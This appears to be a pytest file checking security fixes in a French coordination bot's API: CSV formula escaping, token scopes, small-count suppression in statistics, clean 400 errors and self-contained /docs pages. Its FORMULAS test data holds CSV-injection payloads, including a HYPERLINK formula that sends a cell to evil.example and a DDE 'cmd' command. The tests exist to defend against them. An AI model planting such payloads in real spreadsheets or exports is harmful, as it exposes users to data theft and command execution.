"""Holes an attacker found in the coordination API, each closed: formulas in CSV, scopes, secrecy, 500s, /docs."""

from __future__ import annotations

import base64
import csv
import io
import re
from collections.abc import AsyncIterator
from datetime import timedelta
from pathlib import Path

import httpx
import pytest

from bot.api import create_api
from bot.api.secrecy import hidden_cells
from bot.app import App
from storage.members import find_member
from storage.reports import NewReport, create_report
from storage.territories import by_code
from tests.chat import FakeTransport
from tests.test_api import _seed_reports, _token

FORMULAS = ("=HYPERLINK(\"http://evil.example/?\"&A1;\"Cliquez\")", "+33 6 appel", "-2+3 cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd", "\t=1+1")


async def _seed_formulas(app: App) -> None:
    async with app.sessions() as session, session.begin():
        member = await find_member(session, "test", "u-api-35")
        territory = await by_code(session, "35-fougeres")
        assert member and territory
        for i, text in enumerate(FORMULAS):
            new = NewReport(member.id, territory.id, "demarche", "35243", "35", text, "seniors", "normal", (),
                            f"f{i}")
            await create_report(session, new, app.clock.now() - timedelta(hours=i))


@pytest.fixture
async def client(app: App, transport: FakeTransport) -> AsyncIterator[httpx.AsyncClient]:
    """The real FastAPI application in process (ASGI), on the test's database."""
    await _seed_reports(app, transport)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app=create_api(app)),
                                 base_url="http://relais.test") as http:
        yield http


async def test_csv_cells_never_start_a_formula(client: httpx.AsyncClient, app: App, database_url: str,
                                               tmp_path: Path) -> None:
    await _seed_formulas(app)
    token = _token(database_url, tmp_path, "35-fougeres", "--scope", "reports")
    body = (await client.get("/api/v1/reports.csv", params={"sep": ";"},
                             headers={"Authorization": f"Bearer {token}"})).text
    rows = list(csv.DictReader(io.StringIO(body.lstrip("\ufeff")), delimiter=";"))
    descriptions = {row["description"] for row in rows}
    for formula in FORMULAS:
        assert "'" + formula in descriptions  # shown as typed in a spreadsheet, never evaluated
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values()), row


async def test_scopes_separate_aggregates_from_rows(client: httpx.AsyncClient, database_url: str,
                                                    tmp_path: Path) -> None:
    stats_only = {"Authorization": f"Bearer {_token(database_url, tmp_path, '35-fougeres')}"}
    rows = {"Authorization": f"Bearer {_token(database_url, tmp_path, '35-fougeres', '--scope', 'reports')}"}
    assert (await client.get("/api/v1/stats", headers=stats_only)).status_code == 200
    for path in ("/api/v1/reports", "/api/v1/reports.csv"):
        refused = await client.get(path, headers=stats_only)
        assert refused.status_code == 403 and "reports" in refused.json()["error"]
        assert (await client.get(path, headers=rows)).status_code == 200
    assert (await client.get("/api/v1/stats", headers=rows)).status_code == 200


async def test_stats_take_days_only(client: httpx.AsyncClient, database_url: str, tmp_path: Path) -> None:
    headers = {"Authorization": f"Bearer {_token(database_url, tmp_path, '35-fougeres')}"}
    by_day = await client.get("/api/v1/stats", params={"since": "2026-03-01", "until": "2026-03-10"},
                              headers=headers)
    assert by_day.status_code == 200
    for bound in ("2026-03-09T08:00:00", "2026-03-09T08:00:01+00:00", "2026-03-09 08:00"):
        refused = await client.get("/api/v1/stats", params={"until": bound}, headers=headers)
        assert refused.status_code == 400 and "AAAA-MM-JJ" in refused.json()["error"], bound


def test_complementary_suppression_leaves_no_cell_to_subtract() -> None:
    counts = {("a",): 9, ("b",): 2, ("c",): 7}
    assert hidden_cells(counts, 1, 3) == {("b",), ("c",)}  # 2 alone would be 18 - 9 - 7
    assert hidden_cells({("a",): 5, ("b",): 1, ("c",): 1}, 1, 3) == {("a",), ("b",), ("c",)}  # 1 + 1 < 3
    assert hidden_cells({("a",): 5, ("b",): 4}, 1, 3) == set()
    two = {("x", "t1"): 8, ("x", "t2"): 1, ("x", "t3"): 6, ("y", "t1"): 5, ("y", "t2"): 7, ("y", "t3"): 9}
    hidden = hidden_cells(two, 2, 3)
    for dim in (0, 1):  # along each dimension, a line with a hidden cell hides >= 2 cells summing >= 3
        lines: dict[str, list[tuple[str, str]]] = {}
        for key in two:
            lines.setdefault(key[1 - dim], []).append(key)
        for line in lines.values():
            masked = [k for k in line if k in hidden]
            assert not masked or (len(masked) >= 2 and sum(two[k] for k in masked) >= 3), (dim, line, hidden)


async def test_no_500_on_huge_cursor_far_dates_or_nul(client: httpx.AsyncClient, database_url: str,
                                                      tmp_path: Path) -> None:
    headers = {"Authorization": f"Bearer {_token(database_url, tmp_path, '35-fougeres', '--scope', 'reports')}"}
    huge = base64.urlsafe_b64encode(b"r99999999999").decode().rstrip("=")
    for params in ({"cursor": huge}, {"cursor": "r99999999999"}, {"cursor": "%%%"},
                   {"since": "0001-01-01T00:00:00+14:00"}, {"until": "9999-12-31T23:59:59-14:00"},
                   {"theme": "\x00"}, {"commune": "\x00"}, {"territory": "35\x00"}, {"status": "withdrawn"}):
        answer = await client.get("/api/v1/reports", params=params, headers=headers)
        assert answer.status_code == 400, (params, answer.text)
        assert set(answer.json()) == {"error"} and answer.json()["error"], params
    raw = await client.get("/api/v1/stats?theme=%00", headers=headers)
    assert raw.status_code == 400 and "contrôle" in raw.json()["error"]


async def test_errors_are_400_in_french_never_422(client: httpx.AsyncClient, database_url: str,
                                                  tmp_path: Path) -> None:
    headers = {"Authorization": f"Bearer {_token(database_url, tmp_path, '35-fougeres', '--scope', 'reports')}"}
    cases = {("/api/v1/reports", "limit", "abc"): "nombre entier", ("/api/v1/reports", "limit", "0"): "trop petite",
             ("/api/v1/reports", "limit", "5000"): "trop grande", ("/api/v1/reports.csv", "sep", "|"): "sep"}
    for (path, name, value), expected in cases.items():
        answer = await client.get(path, params={name: value}, headers=headers)
        assert answer.status_code == 400 and set(answer.json()) == {"error"}, answer.text
        assert expected in answer.json()["error"] and name in answer.json()["error"]
    unknown = await client.get("/api/v1/nope", headers=headers)
    assert unknown.status_code == 404 and unknown.json() == {"error": "adresse inconnue"}


async def test_head_healthz_and_docs_without_network(client: httpx.AsyncClient) -> None:
    head = await client.head("/healthz")
    assert head.status_code == 200 and head.content == b""
    page = await client.get("/docs")
    assert page.status_code == 200
    urls = re.findall(r"""(?:src|href)=['"]([^'"]+)['"]|url: ?['"]([^'"]+)['"]""", page.text)
    assets = [a or b for a, b in urls]
    assert assets and not any(u.startswith(("http:", "https:", "//")) for u in assets), assets
    for asset in assets:
        assert (await client.get(asset)).status_code == 200, asset




async def test_weeks_are_iso_on_both_databases(client: httpx.AsyncClient, app: App, database_url: str,
                                               tmp_path: Path) -> None:
    from datetime import UTC, datetime

    async with app.sessions() as session, session.begin():
        member = await find_member(session, "test", "u-api-35")
        assert member is not None
        for i, day in enumerate((datetime(2027, 1, 1, 12, tzinfo=UTC), datetime(2026, 12, 28, 9, tzinfo=UTC),
                                 datetime(2027, 1, 4, 9, tzinfo=UTC))):
            await create_report(session, NewReport(member.id, member.territory_id, "demarche", "35243", "35",
                                                   "Semaine ISO", "seniors", "normal", (), f"w{i}"), day)
    headers = {"Authorization": f"Bearer {_token(database_url, tmp_path, '35-fougeres')}"}
    rows = (await client.get("/api/v1/stats", params={"group_by": "week", "since": "2026-12-01"},
                             headers=headers)).json()["rows"]
    assert [r["week"] for r in rows] == ["2026-W53", "2027-W01"]
